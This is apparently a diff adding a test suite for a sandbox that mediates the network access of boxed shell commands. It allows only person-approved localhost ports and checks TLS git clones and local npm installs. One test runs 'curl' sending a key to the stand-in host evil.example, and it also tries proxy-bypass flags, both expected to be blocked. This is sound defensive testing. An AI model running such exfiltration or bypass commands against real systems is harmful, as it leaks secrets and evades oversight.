@@ -1,0 +1,191 @@
+/** What programs in a real box reach: real servers of this machine, as far as a person allows them. */
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { once } from 'node:events';
+import { existsSync, readFileSync } from 'node:fs';
+import { createServer, type RequestListener, type Server } from 'node:http';
+import { createServer as createSecure } from 'node:https';
+import type { AddressInfo } from 'node:net';
+import { delimiter, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { tar } from '../../fakes/tarFile.ts';
+import { type Boxed, boxedRun, itBoxed } from './boxed.ts';
+
+const binaries = fileURLToPath(new URL('../../../node_modules/.bin', import.meta.url));
+
+describe('the network of a boxed command', () => {
+  let servers: Server[];
+  let seen: string[];
+  beforeEach(() => {
+    servers = [];
+    seen = [];
+  });
+  afterEach(() => {
+    for (const server of servers) {
+      server.closeAllConnections();
+      server.close();
+    }
+  });
+
+  const listen = async (server: Server): Promise<number> => {
+    servers.push(server);
+    server.listen(0, '127.0.0.1');
+    await once(server, 'listening');
+    return (server.address() as AddressInfo).port;
+  };
+  const serve = (answer: RequestListener): Promise<number> =>
+    listen(
+      createServer((request, response) => {
+        seen.push(`${request.method} ${request.url}`);
+        answer(request, response);
+      }),
+    );
+  /** A box in which commands may reach these ports of localhost. */
+  const allowing = (run: Boxed, ...ports: readonly number[]): Boxed => {
+    const env = { ...run.context.env, PATH: `${binaries}${delimiter}${process.env['PATH']}` };
+    const askHost = async ({ host, port, program }: { host: string; port: number; program: string }) =>
+      host === 'localhost' && ports.includes(port) ? undefined : `Denied: ${program} may not.`;
+    const ownHosts = () => ports.map(port => `localhost:${port}`);
+    return boxedRun(run.finding, { env, askHost }, run, { ownHosts });
+  };
+
+  itBoxed('is none without anyone who decides', async run => {
+    const port = await serve((_, response) => response.end('hello'));
+    const { code, out } = await run.sh(`env | grep -i proxy; curl -s http://127.0.0.1:${port}/`);
+    assert.notEqual(code, 0);
+    assert.equal(out, '');
+    assert.deepEqual(seen, []);
+  });
+
+  itBoxed('leads programs to a host that may be reached, and to no other', async run => {
+    const port = await serve((request, response) => response.end(`hello ${request.url}`));
+    const box = allowing(run, port);
+    const lines = [
+      `curl -sS http://localhost:${port}/curl`,
+      `curl -sS --proxy socks5h://127.0.0.1:41873 --noproxy '' http://localhost:${port}/curl`,
+      `python3 -c 'import urllib.request as u; print(u.urlopen("http://localhost:${port}/python").read())'`,
+    ];
+    for (const line of lines) {
+      const { out, note } = await box.sh(line);
+      assert.match(out, /hello \/(?:curl|python)/, line);
+      assert.equal(note, undefined);
+    }
+    assert.equal((await box.sh('kill -TERM $$')).code, 143);
+    assert.equal((await box.sh('exit 7')).code, 7);
+    const { err, note } = await box.sh('curl -sS https://evil.example/?key=1; true');
+    assert.match(err, /403/);
+    assert.match(note ?? '', /nothing through to evil\.example:443: Denied: curl may not\./);
+    assert.doesNotMatch(note ?? '', /key/);
+    for (const way of ['--noproxy "*" http://127.0.0.1', '--proxy "" http://localhost', 'http://127.0.0.1'])
+      assert.notEqual((await box.sh(`curl -s ${way}:${port}/direct`)).code, 0, way);
+    assert.ok(seen.every(line => !line.includes('direct')));
+  });
+
+  itBoxed('is found without Perl too', async run => {
+    const port = await serve((_, response) => response.end('hello'));
+    const box = allowing(run, port);
+    const env = { ...run.context.env, PATH: '/nowhere' };
+    const { out, code } = await box.sh(`/usr/bin/curl -sS http://localhost:${port}/; exit 7`, { env });
+    assert.deepEqual([out, code], ['hello', 7]);
+  });
+
+  itBoxed('leaves the servers of a command to it', async run => {
+    const box = allowing(run);
+    const script = `require("http").createServer((q, r) => r.end("own")).listen(8099, "127.0.0.1", () =>
+      fetch("http://127.0.0.1:8099/").then(r => r.text()).then(t => { console.log(t); process.exit(); }))`;
+    assert.equal((await box.sh(`node -e '${script}'`)).out, 'own');
+  });
+
+  itBoxed('clones a repository over TLS', async run => {
+    const source = join(run.root, 'source');
+    const git = (...args: string[]): string =>
+      execFileSync('git', ['-c', 'user.name=A', '-c', 'user.email=a@b', ...args], { encoding: 'utf8' });
+    git('init', '-q', source);
+    run.put('source/a.txt', 'text');
+    git('-C', source, 'add', '.');
+    git('-C', source, 'commit', '-qm', 'one');
+    git('-C', source, 'update-server-info');
+    const files = ['-keyout', join(run.root, 'key.pem'), '-out', join(run.work, 'ca.crt')];
+    execFileSync(
+      'openssl',
+      ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', ...files].concat([
+        ...['-subj', '/CN=localhost', '-addext', 'subjectAltName=DNS:localhost', '-days', '2'],
+      ]),
+      { stdio: 'ignore' },
+    );
+    const key = readFileSync(join(run.root, 'key.pem'));
+    const cert = readFileSync(join(run.work, 'ca.crt'));
+    const port = await listen(
+      createSecure({ key, cert }, (request, response) => {
+        const file = join(
+          source,
+          '.git',
+          new URL(request.url ?? '', 'http://a').pathname.replace('/r.git', ''),
+        );
+        if (existsSync(file)) response.end(readFileSync(file));
+        else response.writeHead(404).end();
+      }),
+    );
+    const { code, err } = await allowing(run, port).sh(
+      `git -c http.sslCAInfo=ca.crt clone -q https://localhost:${port}/r.git copy`,
+    );
+    assert.equal(code, 0, err);
+    assert.equal(readFileSync(join(run.work, 'copy/a.txt'), 'utf8'), 'text');
+  });
+
+  itBoxed('installs a package from a registry', async run => {
+    const tarball = tar(
+      { path: 'package/package.json', content: '{"name":"left-of","version":"1.0.0"}' },
+      { path: 'package/index.js', content: 'module.exports = 42' },
+    );
+    const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
+    const port: number = await serve((request, response) => {
+      if (request.url?.endsWith('.tgz')) response.end(tarball);
+      else if (request.url === '/left-of')
+        response.end(
+          JSON.stringify({
+            name: 'left-of',
+            'dist-tags': { latest: '1.0.0' },
+            versions: {
+              '1.0.0': {
+                ...{ name: 'left-of', version: '1.0.0' },
+                dist: { tarball: `http://localhost:${port}/left-of.tgz`, integrity },
+              },
+            },
+          }),
+        );
+      else response.writeHead(404).end('{}');
+    });
+    run.put('work/package.json', '{"name":"mine","version":"1.0.0"}');
+    const { code, out, err } = await allowing(run, port).sh(
+      `npm install --no-audit --no-fund --registry http://localhost:${port}/ left-of && node -p 'require("left-of")'`,
+    );
+    assert.equal(code, 0, err);
+    assert.match(out, /42$/);
+  });
+
+  itBoxed('stands still while a person is asked, and ends with the command', async run => {
+    const port = await serve((_, response) => response.end('late'));
+    let withdrawn = 0;
+    const box = boxedRun(
+      run.finding,
+      {
+        askHost: ({ port: wanted }, signal) =>
+          new Promise(settle => {
+            if (wanted === port) setTimeout(() => settle(undefined), 1500);
+            signal.addEventListener('abort', () => {
+              withdrawn++;
+              settle('Denied: it ended.');
+            });
+          }),
+      },
+      run,
+      { ownHosts: () => [`localhost:${port}`] },
+    );
+    const { out } = await box.sh(`curl -sS http://localhost:${port}/`, {}, { timeoutMs: 1200 });
+    assert.equal(out, 'late');
+    await box.sh('curl -sS -m 1 http://held.example/');
+    assert.equal(withdrawn, 2);
+  });
+});
